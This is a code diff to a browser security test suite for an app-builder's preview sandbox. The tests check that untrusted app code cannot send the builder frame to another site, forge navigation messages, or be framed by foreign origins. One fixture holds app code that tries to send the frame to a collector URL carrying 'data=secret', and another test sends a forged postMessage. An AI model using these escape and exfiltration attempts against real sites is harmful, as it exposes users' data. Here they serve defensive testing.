@@ -1,6 +1,12 @@
 import { eventually } from '@buildai/core/testing';
 import { expect } from 'chai';
-import { builtShell, violationsOnEachDevice, findFirefox, launchBrowser } from '@buildai/web/testing';
+import {
+  builtShell,
+  violationsOnEachDevice,
+  findFirefox,
+  launchBrowser,
+  waitForValue,
+} from '@buildai/web/testing';
 import type { AppHost } from './support/app-host.js';
 import { startAppHost } from './support/app-host.js';
 import { filesOf } from './support/bundling.js';
@@ -132,7 +138,8 @@ export default function Home() { tried; return <h1>Harmless</h1>; }`,
     expect(await reported()).to.deep.equal({});
     expect([...collector.arrived]).to.deep.equal([]);
     await previewFrame(page).getByText('Harmless').waitFor();
-    expect(page.url()).to.equal(address);
+    const at = page.url();
+    expect(at).to.equal(address);
     await page.close();
   });
 
@@ -200,13 +207,21 @@ export default function Home() { tried; return <h1>Harmless</h1>; }`,
     it(`cannot navigate the builder's frame to another site ${way}`, async () => {
       const { app } = await host.newApp(
         filesOf({
-          'pages/Home.jsx': `setTimeout(() => { ${leave(`${collector.url}/left?data=secret`)} }, 1500);
-export default function Home() { return <h1>Leaving</h1>; }`,
+          'pages/Home.jsx': `import { useEffect } from 'react';
+export default function Home() {
+  useEffect(() => {
+    console.log('Leaving');
+    setTimeout(() => { ${leave(`${collector.url}/left?data=secret`)} }, 1500);
+  }, []);
+  return <h1>Leaving</h1>;
+}`,
         }),
       );
       const page = await openAsAda(browser, host);
+      // Not its text: a machine that is busy may look for it when the frame shows something else.
+      const isLeaving = page.waitForEvent('console', (message) => message.text() === 'Leaving');
       await page.goto(`${host.url}/build/app/${app.appId}?panel=preview`);
-      await previewFrame(page).getByText('Leaving').waitFor();
+      await isLeaving;
       await page.waitForTimeout(allDone);
       expect([...collector.arrived]).to.deep.equal([]);
       await page.close();
@@ -238,7 +253,8 @@ export default function Home() { return <h1>Leaving</h1>; }`,
     expect(found.get(origin)).to.deep.equal([[], '']);
     const other = await context.newPage();
     await other.goto(targets.otherApp.origin);
-    expect(await other.evaluate(() => localStorage.getItem('mine'))).to.equal(null);
+    const mine = await other.evaluate(() => localStorage.getItem('mine'));
+    expect(mine).to.equal(null);
     await context.close();
   });
 
@@ -253,13 +269,14 @@ export default function Home() { return <h1>Talking</h1>; }`,
     const page = await openAsAda(browser, host);
     await page.goto(`${host.url}/build/app/${app.appId}?panel=preview`);
     await previewFrame(page).getByText('Talking').waitFor();
-    expect(await page.getByLabel('Page of the app').inputValue()).to.equal('/');
+    await waitForValue(() => page.getByLabel('Page of the app').inputValue(), '/');
     // The page around the frame is not the app's: what it sends to itself in the app's name is nobody's word.
     await page.evaluate(() =>
       window.postMessage({ channel: 'buildai/app', type: 'navigated', path: '/forged' }, '*'),
     );
     await page.waitForTimeout(200);
-    expect(await page.getByLabel('Page of the app').inputValue()).to.equal('/');
+    const path = await page.getByLabel('Page of the app').inputValue();
+    expect(path).to.equal('/');
     await page.close();
   });
 
@@ -269,14 +286,17 @@ export default function Home() { return <h1>Talking</h1>; }`,
       document.body.append(Object.assign(document.createElement('iframe'), { src: address }));
     }`;
     const page = await browser.newPage();
+    let refused = 0;
+    page.on('console', (message) => (refused += Number(message.text().includes('frame-ancestors'))));
     await page.goto(`${collector.url}/page`);
-    await page.waitForTimeout(1500);
+    await eventually(() => refused === 2);
     const shown = await Promise.all(
       page
         .frames()
         .slice(1)
         .map((frame) => frame.evaluate(() => document.body.innerText)),
     );
+    expect(shown).to.have.length(2);
     for (const text of shown) expect(text).to.not.include('Harmless');
     await page.close();
   });
